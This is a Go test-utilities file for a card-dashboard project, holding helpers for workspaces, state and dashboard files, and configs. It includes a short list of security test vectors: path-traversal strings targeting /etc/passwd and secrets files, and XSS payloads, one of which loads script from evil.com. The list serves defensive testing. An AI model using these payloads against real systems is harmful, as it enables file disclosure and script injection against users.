// Package testutils holds helpers shared by the command and integration
// tests: temporary workspaces, state files, dashboard files, configs and
// golden renders.
package testutils

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"

	"github.com/conneroisu/lmscards/internal/config"
)

// State is one entry of a state file.
type State struct {
	State      string                 `json:"state" yaml:"state"`
	Attributes map[string]interface{} `json:"attributes" yaml:"attributes"`
}

// Items builds a state holding records under the items attribute.
func Items(records ...map[string]interface{}) State {
	items := make([]interface{}, 0, len(records))
	for _, r := range records {
		items = append(items, r)
	}
	return State{
		State:      strconv.Itoa(len(records)),
		Attributes: map[string]interface{}{"items": items},
	}
}

// CreateTempWorkspace creates a temporary directory with a states folder.
func CreateTempWorkspace(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "states"), 0755))
	return dir
}

// WriteStateFile writes states to dir/name, encoded as JSON or YAML by the
// file extension, and returns the path.
func WriteStateFile(t *testing.T, dir, name string, states map[string]State) string {
	t.Helper()

	var (
		data []byte
		err  error
	)
	if strings.EqualFold(filepath.Ext(name), ".json") {
		data, err = json.MarshalIndent(states, "", "  ")
	} else {
		data, err = yaml.Marshal(states)
	}
	require.NoError(t, err)

	path := filepath.Join(dir, name)
	require.NoError(t, os.WriteFile(path, data, 0644))
	return path
}

// DashboardCard is one card of a dashboard file.
type DashboardCard struct {
	Type   string `yaml:"type"`
	Entity string `yaml:"entity,omitempty"`
	Title  string `yaml:"title,omitempty"`
	Icon   string `yaml:"icon,omitempty"`
}

// WriteDashboardFile writes a YAML dashboard listing cards and returns the
// path.
func WriteDashboardFile(t *testing.T, dir, name string, cards ...DashboardCard) string {
	t.Helper()

	data, err := yaml.Marshal(map[string]interface{}{"cards": cards})
	require.NoError(t, err)

	path := filepath.Join(dir, name)
	require.NoError(t, os.WriteFile(path, data, 0644))
	return path
}

// CreateTestConfig returns a configuration with quiet logging and the
// given output format.
func CreateTestConfig(format string) *config.Config {
	cfg := config.Default()
	cfg.Log.Level = "error"
	cfg.Render.Format = format
	cfg.Render.Style = "notty"
	cfg.Watch.Debounce = 20 * time.Millisecond
	return cfg
}

// SecurityTestCases provides common security test vectors
var SecurityTestCases = struct {
	PathTraversal   []string
	ScriptInjection []string
}{
	PathTraversal: []string{
		"../../../etc/passwd",
		"/./../../etc/passwd",
		"../../../../../etc/passwd",
		"states/../../secrets.yaml",
	},
	ScriptInjection: []string{
		"<script>alert('xss')</script>",
		"<iframe src=javascript:alert('xss')>",
		"<object data=evil.swf></object>",
		"<style>body{display:none}</style>",
		"<script src=//evil.com/malicious.js></script>",
	},
}

// WaitForFileChange waits for a file to be modified (useful for testing file watchers)
func WaitForFileChange(
	t *testing.T,
	filePath string,
	originalModTime time.Time,
	timeout time.Duration,
) {
	t.Helper()
	deadline := time.Now().Add(timeout)

	for time.Now().Before(deadline) {
		info, err := os.Stat(filePath)
		if err == nil && info.ModTime().After(originalModTime) {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}

	t.Fatalf("File %s was not modified within %v", filePath, timeout)
}
